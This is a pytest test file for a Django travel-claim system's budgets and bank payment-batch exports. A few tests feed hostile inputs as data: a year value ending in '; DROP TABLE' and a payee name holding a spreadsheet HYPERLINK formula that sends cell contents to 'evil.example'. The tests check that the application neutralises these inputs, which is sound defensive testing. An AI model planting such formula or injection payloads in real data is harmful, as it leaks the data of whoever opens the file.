"""The budget per year and funding source, the warning when an approval goes over it, and the payment batch:
its CSV and XLSX for the bank, and marking it paid."""

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.contrib.messages import constants, get_messages
from django.core import mail
from django.utils import timezone
from openpyxl import load_workbook

from digitutor.templatetags.formatting import euros
from meetings.claims import services
from meetings.claims.models import Budget, ClaimEvent, ClaimStatus, FundingSource, PaymentBatch, TravelClaim
from tests.claims.factories import TravelClaimFactory, at, claim_in
from tests.factories import TravelDetailsFactory
from tests.meetings.factories import ActionDayFactory

AKE, TURKU = FundingSource.AKE_GRANT, FundingSource.TURKU_AKE


def messages_at(response, level):
    return [message.message for message in get_messages(response.wsgi_request) if message.level == level]


# --- budgets ------------------------------------------------------------------------------------------------


@pytest.fixture
def claims_of_2022(db):
    """Claims with known totals in every state, for meetings and the action day, and a few outside 2022."""
    day = ActionDayFactory(year=2022)
    made = [
        (ClaimStatus.APPROVED, "100.10", None),
        (ClaimStatus.APPROVED, "50.25", None),
        (ClaimStatus.PAID, "80.00", None),
        (ClaimStatus.SUBMITTED, "999.00", None),
        (ClaimStatus.DRAFT, "999.00", None),
        (ClaimStatus.RETURNED, "999.00", None),
        (ClaimStatus.APPROVED, "40.00", day),
        (ClaimStatus.PAID, "12.50", day),
    ]
    for status, total, action_day in made:
        extra = {"meeting": None, "action_day": action_day} if action_day else {}
        TravelClaimFactory(status=status, total=Decimal(total), **extra)
    # Just inside and just outside 2022 in Finnish time (the UTC year of both is 2022).
    TravelClaimFactory(
        status=ClaimStatus.APPROVED,
        total=Decimal("7.00"),
        departure_at=at(2022, 12, 31, 23, 30),
        return_at=at(2023, 1, 1, 1),
    )
    TravelClaimFactory(
        status=ClaimStatus.PAID,
        total=Decimal("500.00"),
        departure_at=at(2023, 1, 1, 0, 30),
        return_at=at(2023, 1, 1, 9),
    )
    Budget.objects.create(year=2022, source=AKE, granted=Decimal("1500.00"))
    Budget.objects.create(year=2022, source=TURKU, granted=Decimal("60.00"))


def test_the_budget_status_counts_approved_and_paid_claims_of_the_year_and_source(claims_of_2022):
    ake = services.budget_status(year=2022, source=AKE)
    turku = services.budget_status(year=2022, source=TURKU)

    assert (ake["granted"], ake["approved"], ake["paid"]) == (Decimal("1500.00"), Decimal("157.35"), Decimal("80.00"))
    assert ake["remaining"] == Decimal("1262.65")
    assert (turku["granted"], turku["approved"], turku["paid"]) == (
        Decimal("60.00"),
        Decimal("40.00"),
        Decimal("12.50"),
    )
    assert turku["remaining"] == Decimal("7.50")


def test_a_year_without_a_budget_has_nothing_granted_and_shows_what_it_spent(claims_of_2022):
    status = services.budget_status(year=2023, source=AKE)

    assert status["budget"] is None
    assert (status["granted"], status["paid"], status["remaining"]) == (
        Decimal("0"),
        Decimal("500.00"),
        Decimal("-500.00"),
    )


def test_the_queue_shows_the_budgets_of_the_year_asked(client_as, chair, claims_of_2022):
    response = client_as(chair).get("/claims/queue/?year=2022")

    figures = {(status["source"], status["remaining"]) for status in response.context["budgets"]}
    assert figures == {(AKE, Decimal("1262.65")), (TURKU, Decimal("7.50"))}


@pytest.mark.parametrize("year", ["1999", "abc", "२०२२", "2022; DROP TABLE"])
def test_a_strange_year_in_the_queue_address_shows_this_year(client_as, chair, year):
    from django.utils import timezone

    response = client_as(chair).get("/claims/queue/", {"year": year})

    assert response.status_code == 200
    assert response.context["year"] == timezone.localdate().year


@pytest.fixture
def over_budget(member, chair):
    """A submitted 2022 meeting claim of 182.20 € while 150 € of the grant remains."""
    Budget.objects.create(year=2022, source=AKE, granted=Decimal("250.00"))
    TravelClaimFactory(status=ClaimStatus.APPROVED, total=Decimal("100.00"))
    return claim_in(ClaimStatus.SUBMITTED, member, approver=chair)


def test_approving_over_the_remaining_budget_is_warned_about_on_the_queue_and_after_approving(
    client_as, treasurer, over_budget
):
    client = client_as(treasurer)
    assert over_budget.total == Decimal("182.20")

    page = client.get(f"/claims/queue/{over_budget.pk}/")
    approved = client.post(f"/claims/queue/{over_budget.pk}/approve/")

    assert page.context["over_budget"] is True
    assert 'class="alert alert-warning"' in page.text
    assert len(messages_at(approved, constants.WARNING)) == 1
    assert len(messages_at(approved, constants.SUCCESS)) == 1
    over_budget.refresh_from_db()
    assert over_budget.status == ClaimStatus.APPROVED  # a warning, not a refusal
    remaining = services.budget_status(year=2022, source=AKE)["remaining"]
    assert remaining == Decimal("-32.20")
    queue = client.get("/claims/queue/?year=2022")
    assert "text-danger fw-bold" in queue.text


def test_approving_within_the_budget_gives_no_warning(client_as, treasurer, member, chair):
    Budget.objects.create(year=2022, source=AKE, granted=Decimal("182.20"))
    claim = claim_in(ClaimStatus.SUBMITTED, member, approver=chair)
    client = client_as(treasurer)

    page = client.get(f"/claims/queue/{claim.pk}/")
    approved = client.post(f"/claims/queue/{claim.pk}/approve/")

    assert page.context["over_budget"] is False
    assert 'class="alert alert-warning"' not in page.text
    assert messages_at(approved, constants.WARNING) == []


# --- the payment batch ----------------------------------------------------------------------------------------

IBANS = {"member": "FI2112345600000785", "other_member": "FI4950009420028730"}
IBAN_OF = {"maija.tapio@example.org": IBANS["member"], "vesa.taimi@example.org": IBANS["other_member"]}


@pytest.fixture
def batch(client_as, member, other_member, chair, treasurer):
    """Two approved claims with their payees' IBANs, a submitted one left out, made into a batch by the treasurer."""
    for person in (member, other_member):
        key = "member" if person == member else "other_member"
        TravelDetailsFactory(member=person.member, iban=IBANS[key])
    claims = [
        claim_in(ClaimStatus.APPROVED, member, approver=chair, lines=("car", "ticket")),
        claim_in(ClaimStatus.APPROVED, other_member, approver=chair),
    ]
    claim_in(ClaimStatus.SUBMITTED, member, approver=chair)
    response = client_as(treasurer).post("/claims/payments/new/", {"claim": [claim.pk for claim in claims]})
    made = PaymentBatch.objects.get()
    assert response["Location"] == f"/claims/payments/{made.pk}/"
    assert set(made.claims.all()) == set(claims)
    # Made in June 2022, so that it can be marked paid on a date of that summer.
    PaymentBatch.objects.filter(pk=made.pk).update(created_at=at(2022, 6, 20, 12))
    made.refresh_from_db()
    return made


def expected_rows(batch):
    return {
        claim.number: (
            claim.member.full_name,
            IBAN_OF[claim.member.email],
            claim.total,
        )
        for claim in batch.claims.select_related("member")
    }


def test_the_batch_csv_streams_one_row_per_claim_with_payee_iban_amount_reference_and_number(
    client_as, treasurer, batch
):
    response = client_as(treasurer).get(f"/claims/payments/{batch.pk}.csv")

    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert f"payment-batch-{batch.pk}.csv" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    header, *rows = list(csv.reader(StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert len(header) == 5
    assert len(rows) == 2
    expected = expected_rows(batch)
    for number, payee, iban, amount, reference in rows:
        assert "," in amount and "." not in amount  # a decimal comma: Finnish Excel reads "182,20" as a number
        assert (payee, iban, Decimal(amount.replace(",", "."))) == expected[number]
        assert number in reference
    assert {row[0] for row in rows} == set(expected)


def test_the_batch_xlsx_has_one_row_per_claim_with_payee_iban_amount_reference_and_number(client_as, treasurer, batch):
    response = client_as(treasurer).get(f"/claims/payments/{batch.pk}.xlsx")

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(BytesIO(response.content)).active
    header, *rows, total_row = list(sheet.iter_rows())
    assert len(header) == 5
    assert len(rows) == 2
    expected = expected_rows(batch)
    for number, payee, iban, amount, reference in ([cell.value for cell in row] for row in rows):
        assert (payee, iban) == expected[number][:2]
        assert isinstance(amount, float)
        assert Decimal(str(amount)) == expected[number][2]
        assert number in reference
    assert {row[3].number_format for row in rows} == {'#,##0.00 "€"'}
    assert total_row[0].value == "Yhteensä"
    assert Decimal(str(total_row[3].value)) == sum(total for _name, _iban, total in expected.values())
    assert total_row[3].number_format == '#,##0.00 "€"'


def test_marking_the_batch_paid_marks_every_claim_paid_with_the_date_events_and_emails(
    client_as, treasurer, batch, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = client_as(treasurer).post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-06-30"})

    assert messages_at(response, constants.SUCCESS)
    batch.refresh_from_db()
    assert batch.paid_on == date(2022, 6, 30)
    for claim in batch.claims.all():
        assert (claim.status, claim.paid_on, claim.paid_by) == (ClaimStatus.PAID, date(2022, 6, 30), treasurer)
        paid = ClaimEvent.objects.get(claim=claim, to_status=ClaimStatus.PAID)
        assert (paid.from_status, paid.actor) == (ClaimStatus.APPROVED, treasurer)
    assert sorted(message.to[0] for message in mail.outbox) == sorted(c.member.email for c in batch.claims.all())
    assert TravelClaim.objects.filter(status=ClaimStatus.SUBMITTED).count() == 1


def test_a_batch_is_marked_paid_only_once(client_as, treasurer, batch):
    client = client_as(treasurer)
    client.post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-06-30"})
    events = ClaimEvent.objects.count()

    again = client.post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-07-01"})

    assert messages_at(again, constants.ERROR)
    batch.refresh_from_db()
    assert batch.paid_on == date(2022, 6, 30)
    assert set(batch.claims.values_list("paid_on", flat=True)) == {date(2022, 6, 30)}
    assert ClaimEvent.objects.count() == events


def test_a_claim_already_in_a_batch_is_not_put_in_the_next_one(client_as, treasurer, batch):
    response = client_as(treasurer).post("/claims/payments/new/", {"claim": [c.pk for c in batch.claims.all()]})

    assert messages_at(response, constants.ERROR)
    assert PaymentBatch.objects.count() == 1


def test_the_chair_cannot_make_export_or_pay_a_batch(client_as, chair, batch):
    client = client_as(chair)

    assert client.get("/claims/payments/new/").status_code == 403
    assert client.post("/claims/payments/new/").status_code == 403
    assert client.get(f"/claims/payments/{batch.pk}.csv").status_code == 403
    assert client.post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-06-30"}).status_code == 403
    batch.refresh_from_db()
    assert batch.paid_on is None


def test_the_payments_page_shows_every_batch_newest_first_25_a_page(client_as, treasurer):
    made = [PaymentBatch.objects.create(created_by=treasurer) for _ in range(55)]
    newest_first = [batch.pk for batch in reversed(made)]
    client = client_as(treasurer)

    pages = [client.get("/claims/payments/", {"page": number}) for number in (1, 2, 3)]

    assert [[batch.pk for batch in page.context["batches"]] for page in pages] == [
        newest_first[:25],
        newest_first[25:50],
        newest_first[50:],  # the oldest five, which the page used to leave out
    ]
    assert 'href="?page=2"' in pages[0].text
    assert 'href="?page=2"' in pages[2].text
    assert 'aria-current="page"' in pages[1].text


def test_a_payee_name_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(client_as, treasurer, batch, member):
    # The name stored as the payee when the claim was approved (the file never reads the member's name of today).
    TravelClaim.objects.filter(member=member.member).update(
        payee_name='=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")'
    )
    client = client_as(treasurer)

    text = b"".join(client.get(f"/claims/payments/{batch.pk}.csv").streaming_content).decode("utf-8-sig")
    sheet = load_workbook(BytesIO(client.get(f"/claims/payments/{batch.pk}.xlsx").content)).active

    payees = [row[1] for row in list(csv.reader(StringIO(text), delimiter=";"))[1:]]
    assert "'=HYPERLINK" in next(payee for payee in payees if "HYPERLINK" in payee)
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    cell = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


def test_the_payments_page_shows_a_batch_with_its_claims_and_a_form_to_mark_it_paid(client_as, treasurer, batch):
    page = client_as(treasurer).get("/claims/payments/").text

    assert f'<th scope="row"><a href="/claims/payments/{batch.pk}/">{batch.pk}</a></th>' in page
    assert "<td>2</td>" in page  # the batch's two approved claims; the submitted one stays out
    total = sum(claim.total for claim in batch.claims.all())
    assert f'<td class="text-end">{euros(total)}</td>' in page
    assert f'href="/claims/payments/{batch.pk}.xml"' in page
    assert f'href="/claims/payments/{batch.pk}.csv"' in page
    assert f'href="/claims/payments/{batch.pk}.xlsx"' in page
    assert (
        f'action="/claims/payments/{batch.pk}/paid/" class="d-flex flex-wrap gap-2 align-items-end" novalidate>'
        '<input type="hidden" name="csrfmiddlewaretoken"' in page
    )
    assert f'id="paid-on-{batch.pk}" value="{timezone.localdate():%Y-%m-%d}" required' in page


def test_a_paid_batch_shows_its_payment_date_instead_of_the_form(client_as, treasurer, batch):
    client = client_as(treasurer)
    client.post(f"/claims/payments/{batch.pk}/paid/", {"paid_on": "2022-06-30"})

    page = client.get("/claims/payments/").text

    assert f'action="/claims/payments/{batch.pk}/paid/"' not in page
    assert "<td>30. kesäkuuta 2022</td>" in page
